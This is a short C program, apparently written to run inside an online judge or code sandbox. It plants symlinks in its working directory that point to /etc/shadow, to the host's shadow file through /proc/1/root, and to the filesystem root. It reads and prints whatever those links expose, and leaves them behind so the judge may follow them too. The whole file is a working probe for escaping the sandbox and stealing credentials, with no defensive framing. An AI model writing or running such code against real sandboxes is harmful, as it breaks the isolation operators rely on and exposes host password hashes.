/* Symlinks from the work dir to host files, read through them and left behind for the judge. */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
int main(int argc, char **argv) {
    const char *targets[] = {"/etc/shadow", "/proc/1/root/etc/shadow", "/", argc > 1 ? argv[1] : "/", NULL};
    char name[32], buf[4096];
    for (int i = 0; targets[i]; i++) {
        snprintf(name, sizeof name, "link%d", i);
        unlink(name);
        if (symlink(targets[i], name)) { printf("no symlink %s\n", targets[i]); continue; }
        int fd = open(name, O_RDONLY);
        if (fd < 0) { printf("blocked %s\n", targets[i]); continue; }
        ssize_t n = read(fd, buf, sizeof buf - 1);
        if (n > 0) { buf[n] = 0; printf("read via %s: %s\n", targets[i], buf); }
        close(fd);
    }
    return 0;
}
